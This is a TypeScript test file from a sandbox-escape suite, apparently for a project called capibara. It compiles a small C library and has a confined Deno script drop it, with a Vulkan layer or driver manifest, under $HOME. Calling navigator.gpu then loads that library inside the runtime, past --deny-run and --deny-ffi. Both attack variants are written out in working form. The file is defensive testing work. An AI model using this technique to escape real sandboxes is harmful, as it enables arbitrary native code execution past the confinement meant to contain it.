/**
 * The escape suite: native code of the script's own, run inside the runtime that should confine
 * it. Deno offers WebGPU (`navigator.gpu`) without any permission, and its Vulkan loader
 * (`libvulkan.so.1`, where the host has it) loads the layers and drivers that files under
 * `$XDG_DATA_HOME` name, `$HOME/.local/share` by default: the run's temp dir, which the script may
 * write. A library loaded so runs its constructor inside `deno`, past `--deny-run`, `--deny-ffi`
 * and the read scope (under bubblewrap it read the sandbox's mount table, which names the host's
 * paths; under Deno's flags alone it wrote anywhere the user may).
 *
 * The planted library is built here from its C source (`cc`); without `cc` or the Vulkan loader
 * these attacks are skipped, and say so. CI installs both.
 */
import { join } from "node:path";
import { attack, escapeSuite, ts } from "./_escape.ts";

const LOADER = [
  "/usr/lib/x86_64-linux-gnu/libvulkan.so.1",
  "/usr/lib/aarch64-linux-gnu/libvulkan.so.1",
  "/usr/lib64/libvulkan.so.1",
].find((path) => {
  try {
    return Deno.statSync(path).isFile;
  } catch {
    return false;
  }
});

/** A shared library whose constructor writes proof that it ran (and as whom) into $HOME. */
async function plantedLibrary(): Promise<string | undefined> {
  const dir = await Deno.makeTempDir({ prefix: "capibara_escape_native_" });
  try {
    await Deno.writeTextFile(
      join(dir, "planted.c"),
      `#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void planted(void) {
  const char *home = getenv("HOME");
  char command[1024];
  if (!home) return;
  snprintf(command, sizeof command, "{ echo NATIVE-CODE-RAN; id; } > '%s/planted-ran.txt' 2>&1", home);
  system(command);
}
`,
    );
    const built = await new Deno.Command("cc", {
      args: ["-shared", "-fPIC", "-o", join(dir, "planted.so"), join(dir, "planted.c")],
      stdout: "null",
      stderr: "null",
    }).output().catch(() => undefined);
    if (!built?.success) return undefined;
    return (await Deno.readFile(join(dir, "planted.so"))).toBase64();
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

const library = LOADER ? await plantedLibrary() : undefined;
if (!LOADER) {
  console.warn("SKIPPED: native-code attacks need the Vulkan loader (apt-get install libvulkan1)");
} else if (!library) console.warn("SKIPPED: native-code attacks need a C compiler (cc)");

/** The script: plants the library and the manifest `kind` wants, then asks WebGPU for an adapter. */
const through = (kind: "implicit_layer.d" | "icd.d", manifest: string) =>
  ts(`const home = Deno.env.get("HOME")!;
const dir = home + "/.local/share/vulkan/${kind}";
Deno.mkdirSync(dir, { recursive: true });
const library = home + "/planted.so";
Deno.writeFileSync(library, Uint8Array.fromBase64(${JSON.stringify(library ?? "")}));
Deno.writeTextFileSync(dir + "/planted.json", ${manifest});
const gpu = (navigator as unknown as { gpu?: { requestAdapter(): Promise<unknown> } }).gpu;
detail = "adapter: " + String(await gpu?.requestAdapter());
try {
  const proof = Deno.readTextFileSync(home + "/planted-ran.txt");
  breached = proof.includes("NATIVE-CODE-RAN");
  detail = proof.slice(0, 200);
} catch {
  // the library never ran
}`);

if (library) {
  attack({
    name: "run native code through a Vulkan layer planted in $HOME, via navigator.gpu",
    language: "typescript",
    script: through(
      "implicit_layer.d",
      `JSON.stringify({ file_format_version: "1.0.0", layer: { name: "VK_LAYER_capibara_planted",
  type: "GLOBAL", library_path: library, api_version: "1.3.0", implementation_version: "1",
  description: "planted", disable_environment: { CAPIBARA_PLANTED_OFF: "1" } } })`,
    ),
  });
  attack({
    name: "run native code through a Vulkan driver planted in $HOME, via navigator.gpu",
    language: "typescript",
    script: through(
      "icd.d",
      `JSON.stringify({ file_format_version: "1.0.0", ICD: { library_path: library,
  api_version: "1.3.0" } })`,
    ),
  });
}

Deno.test(escapeSuite("native code in the runtime", { atLeast: { sandbox: 0, noSandbox: 0 } }));
